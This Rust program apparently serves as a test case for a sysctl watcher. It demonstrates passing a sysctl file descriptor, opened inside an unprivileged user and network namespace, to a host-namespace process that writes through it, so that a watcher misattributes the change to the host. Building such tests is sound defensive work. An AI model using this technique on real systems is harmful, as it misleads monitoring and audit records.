//! The attack of a user with no privileges on the host: open a network
//! sysctl inside a user and network namespace of their own (`unshare -Urn`),
//! pass the descriptor to a process still in the host's namespace, and
//! write through it there. The write lands in the namespace the file was
//! opened in; a watcher that attributes it to the writer's namespace would
//! believe the host's value was changed.
//!
//! `sysctl-fd-pass NAME VALUE` (run it as the unprivileged user): prints
//! `wrote VALUE to NAME through a descriptor from another namespace`.
//! `sysctl-fd-pass --open NAME` is the half that runs inside the new
//! namespaces (descriptor 3 is the socket back to the first half).

use std::io::{IoSlice, IoSliceMut, Write};
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd, RawFd};
use std::os::unix::net::UnixStream;
use std::os::unix::process::CommandExt;
use std::process::{Command, ExitCode};

use nix::sys::socket::{ControlMessage, ControlMessageOwned, MsgFlags, recvmsg, sendmsg};

/// Where the inner half finds the socket.
const SOCKET_FD: RawFd = 3;

fn main() -> ExitCode {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let result = match args.as_slice() {
        [flag, name] if flag == "--open" => open_and_send(name),
        [name, value] => receive_and_write(name, value),
        _ => Err("usage: sysctl-fd-pass NAME VALUE".to_string()),
    };
    match result {
        Ok(()) => ExitCode::SUCCESS,
        Err(error) => {
            eprintln!("sysctl-fd-pass: {error}");
            ExitCode::FAILURE
        }
    }
}

fn proc_path(name: &str) -> String {
    format!("/proc/sys/{}", name.replace('.', "/"))
}

fn open_and_send(name: &str) -> Result<(), String> {
    let file = std::fs::OpenOptions::new()
        .write(true)
        .open(proc_path(name))
        .map_err(|e| format!("open {name} in the new namespace: {e}"))?;
    // SAFETY: descriptor 3 was set up by the first half for this process.
    let socket = unsafe { OwnedFd::from_raw_fd(SOCKET_FD) };
    let fds = [file.as_raw_fd()];
    sendmsg::<()>(
        socket.as_raw_fd(),
        &[IoSlice::new(b"fd")],
        &[ControlMessage::ScmRights(&fds)],
        MsgFlags::empty(),
        None,
    )
    .map_err(|e| format!("send the descriptor: {e}"))?;
    Ok(())
}

fn receive_and_write(name: &str, value: &str) -> Result<(), String> {
    let (ours, theirs) = UnixStream::pair().map_err(|e| format!("socketpair: {e}"))?;
    let me = std::env::current_exe().map_err(|e| format!("own path: {e}"))?;
    let theirs_fd = theirs.as_raw_fd();
    let mut inner = Command::new("unshare");
    inner.args(["-Urn"]).arg(&me).args(["--open", name]);
    // SAFETY: dup2 is async-signal-safe; it gives the inner half its socket
    // at a known number (dup2 clears close-on-exec).
    unsafe {
        inner.pre_exec(move || {
            if libc::dup2(theirs_fd, SOCKET_FD) < 0 {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
    let status = inner.status().map_err(|e| format!("run unshare: {e}"))?;
    drop(theirs);
    if !status.success() {
        return Err(format!("the inner half failed: {status}"));
    }
    let mut buffer = [0u8; 8];
    let mut iov = [IoSliceMut::new(&mut buffer)];
    let mut space = nix::cmsg_space!([RawFd; 1]);
    let message = recvmsg::<()>(ours.as_raw_fd(), &mut iov, Some(&mut space), MsgFlags::empty())
        .map_err(|e| format!("receive the descriptor: {e}"))?;
    let mut received = None;
    for cmsg in message.cmsgs().map_err(|e| format!("control messages: {e}"))? {
        if let ControlMessageOwned::ScmRights(fds) = cmsg {
            received = fds.first().copied();
        }
    }
    let fd = received.ok_or("no descriptor came back")?;
    // SAFETY: the kernel just installed this descriptor for us.
    let mut file = std::fs::File::from(unsafe { OwnedFd::from_raw_fd(fd) });
    file.write_all(value.as_bytes()).map_err(|e| format!("write {value:?} through the descriptor: {e}"))?;
    println!("wrote {value} to {name} through a descriptor from another namespace");
    Ok(())
}
